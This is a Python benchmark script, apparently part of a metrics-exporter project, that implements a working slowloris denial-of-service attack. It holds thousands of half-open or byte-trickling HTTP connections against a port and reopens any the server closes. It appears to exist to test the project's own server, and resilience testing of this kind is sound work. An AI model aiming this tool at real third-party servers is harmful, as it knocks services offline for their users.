"""A slowloris against an HTTP port: many connections that never finish their request.

    python -m bench.slowloris --port 9104 --connections 3000 --duration 20

Half the connections are half-open (connected, nothing sent); the other half send a
`GET /metrics` request head one byte per second per connection and never the blank line
that ends it. A connection the server closes is opened again, so that the attack keeps
`connections` in play, opening at most --rate a second (1,000 by default; slowhttptest's
default is 50). At the end, every connection still open completes its request
and leaves at once with a reset: the server meets a client that went away (issue 29:
the old exporter printed a BrokenPipe traceback for each). One process, one thread,
epoll: 3,000 sockets cost the attacker little. Prints a JSON summary on stdout.
"""

from __future__ import annotations

import argparse
import errno
import json
import selectors
import socket
import struct
import sys
import time

REQUEST = b"GET /metrics HTTP/1.1\r\nHost: slowloris\r\nUser-Agent: slowloris\r\nX-Padding: aaaaaaaaaaaaaaaaaaaaaa\r\n"
_RESET = struct.pack("ii", 1, 0)


class Attack:
    def __init__(self, host: str, port: int, connections: int, source: str = "") -> None:
        self.address = (host, port)
        self.source = source
        self.connections = connections
        self.selector = selectors.DefaultSelector()
        self.sent: dict[socket.socket, int] = {}  # bytes of REQUEST sent; -1: half-open, sends nothing
        self.opened = 0
        self.closed_by_server = 0
        self.open_failed = 0
        self._next_slow = True

    def open_one(self) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        if self.source:
            sock.bind((self.source, 0))
        code = sock.connect_ex(self.address)
        if code not in (0, errno.EINPROGRESS):
            self.open_failed += 1
            sock.close()
            return
        self.sent[sock] = 0 if self._next_slow else -1
        self._next_slow = not self._next_slow
        self.selector.register(sock, selectors.EVENT_READ)
        self.opened += 1

    def forget(self, sock: socket.socket) -> None:
        self.selector.unregister(sock)
        del self.sent[sock]
        sock.close()

    def run(self, duration: float, open_rate: float) -> None:
        """Keep `connections` open for `duration` seconds, opening at most `open_rate` a second."""
        start = time.monotonic()
        next_byte = start + 1.0
        allowed = 0.0  # connections it may open now (a token bucket, at most one second's worth)
        last = start
        while (now := time.monotonic()) < start + duration:
            allowed = min(open_rate, allowed + (now - last) * open_rate)
            last = now
            while len(self.sent) < self.connections and allowed >= 1:
                self.open_one()
                allowed -= 1
            for key, _ in self.selector.select(timeout=0.05):
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                try:
                    data = sock.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:  # closed by the server (or its answer: a slow head never completes)
                    self.closed_by_server += 1
                    self.forget(sock)
            if now >= next_byte:
                next_byte += 1.0
                for sock, sent in list(self.sent.items()):
                    if 0 <= sent < len(REQUEST) - 1:
                        try:
                            self.sent[sock] = sent + sock.send(REQUEST[sent : sent + 1])
                        except OSError:  # not connected yet, or gone: the selector tells
                            pass

    def release(self) -> int:
        """Complete every open request, then leave at once with a reset."""
        released = 0
        for sock in list(self.sent):
            try:
                sock.send(REQUEST + b"\r\n")
                released += 1
            except OSError:
                pass
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
            self.forget(sock)
        return released


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=3000)
    parser.add_argument("--duration", type=float, default=20.0)
    parser.add_argument("--rate", type=float, default=1000.0,
                        help="connections opened a second at most (slowhttptest: 50)")  # fmt: skip
    parser.add_argument("--source", default="", help="the attacker's address (e.g. 127.0.0.2: not the scraper's)")
    args = parser.parse_args()
    attack = Attack(args.host, args.port, args.connections, args.source)
    attack.run(args.duration, args.rate)
    released = attack.release()
    summary = {"opened": attack.opened, "closed_by_server": attack.closed_by_server,
               "open_failed": attack.open_failed, "released": released}  # fmt: skip
    print(json.dumps(summary), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
